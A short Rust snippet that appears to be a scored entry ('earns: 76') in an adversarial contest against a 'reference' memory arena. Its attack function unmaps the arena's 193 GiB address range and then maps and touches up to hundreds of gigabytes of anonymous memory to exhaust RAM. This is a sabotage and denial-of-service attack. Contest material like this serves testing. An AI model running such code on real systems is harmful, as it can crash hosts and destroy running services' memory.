// The arena has 192 GiB of addresses. They are given back, and asked for once more as memory.
// on: reference
// in: pop
// earns: 76

unsafe extern "C" {
    fn munmap(at: usize, len: usize) -> i32;
    fn mmap(at: usize, len: usize, access: i32, kind: i32, fd: i32, offset: i64) -> isize;
}

fn attack() {
    const START: usize = (32 << 40) - (1 << 20);
    unsafe {
        munmap(START, 193 << 30);
        for kind in [0x22, 0x21] {
            for _ in 0..160 {
                let memory = mmap(0, 1 << 30, 3, kind, -1, 0);
                if memory == -1 {
                    break;
                }
                let memory = core::ptr::with_exposed_provenance_mut::<u8>(memory.cast_unsigned());
                for page in 0..(1 << 30) / 4096 {
                    memory.add(page * 4096).write_volatile(1);
                }
            }
        }
    }
}
